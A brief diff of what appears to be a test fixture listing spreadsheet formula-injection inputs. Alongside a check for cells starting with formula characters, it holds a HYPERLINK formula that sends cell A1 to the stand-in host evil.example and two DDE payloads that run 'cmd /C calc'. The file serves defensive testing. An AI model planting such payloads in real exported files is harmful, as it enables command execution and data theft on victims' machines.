@@ -20,9 +20,9 @@ const workspace = () =>
 /** Cells a spreadsheet would take for a formula (or, for tab and CR, strip and then run). */
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-2+3',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '-5',
 ];
 const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);
